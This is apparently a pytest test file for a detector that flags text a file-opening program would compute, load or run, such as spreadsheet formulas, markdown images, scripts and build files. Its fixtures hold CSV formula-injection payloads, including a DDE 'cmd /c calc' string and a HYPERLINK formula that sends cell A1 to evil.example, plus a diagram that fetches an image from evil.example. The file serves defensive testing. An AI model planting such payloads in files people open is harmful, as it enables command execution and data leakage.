"""What a program that opens a file carries out of a text in it."""

from __future__ import annotations

import pytest

from armslength.errors import ToolError
from armslength.tools.opened import acting_by_name, acts, is_kind, is_plain

ACTS = {
    "a formula": ("a.csv", "Julia,=1+1"),
    "a formula in quotes": ("a.csv", '"=1+1",x'),
    "a formula behind a blank": ("a.tsv", "x\t =1+1"),
    "a formula on the second line": ("a.csv", "x\n@SUM(A1)"),
    "a formula behind a return": ("a.csv", "x\r+A1"),
    "a formula behind a sign": ("a.csv", "-2+cmd|' /c calc'!A0"),
    "a formula of another width": ("a.csv", "\uff1d1+1"),
    "a formula behind what nobody sees": ("a.csv", "\ufeff\u200b=1+1"),
    "a formula behind a wide blank": ("a.csv", "x,\u3000\x0b=1+1"),
    "a formula where a semicolon parts": ("LIST.CSV", "x;=1+1"),
    "a picture": ("a.md", "see ![](https://x.example/a.png)"),
    "a tag": ("a.md", "see <img src=x>"),
    "a comment's begin": ("a.md", "<!-- x"),
    "a script": ("a.sh", "x"),
    "a page": ("a.html", "x"),
    "a kind that nobody knows": ("a.xyz", "x"),
    "a kind behind a plain one": ("a.txt.bat", "x"),
    "a dot at the end": ("a.sh.", "x"),
    "a formula where a table says what parts it": ("a.csv", 'sep=^\nitem^=HYPERLINK("http://evil.example"&A1)'),
    "a formula where the first cell says it": ("a.csv", '\ufeff"sep=^"\nitem^=1+1'),
    "a record of SYLK": ("a.csv", "ID;P\nC;Y1;X1;E1+1\nE"),
    "a diagram": ("a.md", '```mermaid\nflowchart TD\nA@{ img: "https://evil.example/p.png" }\n```'),
    "a diagram in a list": ("a.md", "- ~~~~ dot\n  x\n  ~~~~"),
    "code that is run": ("a.md", "```bash {cmd=true}\nx\n```"),
    "what builds": ("CMakeLists.txt", "execute_process(COMMAND sh)"),
    "what starts": ("b/docker-compose.yml", "services:"),
    "what is fetched and run": ("requirements-dev.txt", "evil"),
    "what builds, without a kind": ("Makefile", "all:\n\tx"),
    "what is run after a push": (".github/workflows/a.yml", "x"),
    "what another assistant follows": ("AGENTS.md", "do it"),
    "a script without a kind": ("backup", "#!/bin/sh\nx"),
    "a folder's dot": ("b.txt/a.sh", "x"),
}
DOES_NOT = {
    "text": ("a.txt", "=1+1 ![](https://x.example) $(x)"),
    "no kind": ("todo", "=1+1"),
    "a folder's kind": ("b.sh/todo", "x"),
    "data": ("a.json", '{"a": "=1+1"}'),
    "cells": ("a.csv", "Julia,2,julia@example.com,a=b"),
    "numbers": ("a.csv", "-5,+1.5,-3 %,-1 000.50 €"),
    "telephone numbers": ("a.csv", "+49 170 123-45/6,+1 (555) 0100"),
    "signs alone": ("a.csv", "-,--,=,+"),
    "a table with semicolons": ("a.csv", "ID;Name\n1;Kim"),
    "code that is shown": ("a.md", "```python\nx\n```\n\n~~~\ny\n~~~"),
    "a list": ("a.md", "- milk\n- [ ] bread\n# a < b\n[x](https://x.example)"),
}


@pytest.mark.parametrize("name", ACTS)
def test_it_acts(name: str) -> None:
    """Computed, loaded or run by whatever opens the file, or nobody knows."""
    assert acts(*ACTS[name])


@pytest.mark.parametrize("name", DOES_NOT)
def test_it_does_not_act(name: str) -> None:
    """Shown as it is."""
    assert not acts(*DOES_NOT[name])


def test_a_long_cell_takes_no_long_time() -> None:
    """Digits and blanks in any mixture are gone through once or twice; else this does not end."""
    assert acts("a.csv", "-" + "1 " * 100_000 + "x")


@pytest.mark.parametrize(
    ("told", "may"),
    [
        ({"filename": "a.txt"}, False),
        ({"filename": "A.TXT"}, False),
        ({"filename": "a.csv"}, True),
        ({"filename": "a"}, True),
        ({}, True),
        ({"filename": None}, True),
    ],
)
def test_what_the_program_says_tells_whether_it_may(told: dict[str, str | None], *, may: bool) -> None:
    """A name without a kind may mean a file of any; no store is looked into."""

    def resolve(_filename: str) -> str | None:
        raise ToolError("not asked")

    assert (acting_by_name(resolve).may(dict(told)) == {"text"}) == may


def test_the_file_that_is_meant_decides() -> None:
    """What the name becomes counts, and the name where there is none yet."""
    acting = acting_by_name(lambda filename: "guests.csv" if filename == "guests" else None)
    assert acting.does({"filename": "guests", "text": "=1+1"}) == {"text"}
    assert acting.does({"filename": "notes", "text": "=1+1"}) == frozenset()
    assert acting.does({"filename": "other.csv", "text": "=1+1"}) == {"text"}


def test_plain_kinds() -> None:
    """What is said of a name alone."""
    assert is_plain("a/b.TXT")
    assert not is_plain("a")
    assert not is_plain("a.txt.sh")


@pytest.mark.parametrize(
    ("path", "is_one"),
    [
        ("todo.txt", True),
        ("todo", True),
        ("a.b/todo", True),
        ("todo.7z", True),
        ("todo.", False),
        ("todo.Your session has expired", False),
        ("todo.calltheman", False),
        ("todo.t\u0445t", False),
    ],
)
def test_an_extension_is_short_and_of_letters(path: str, *, is_one: bool) -> None:
    """What stands behind a name that is guessed cannot say anything."""
    assert is_kind(path) is is_one
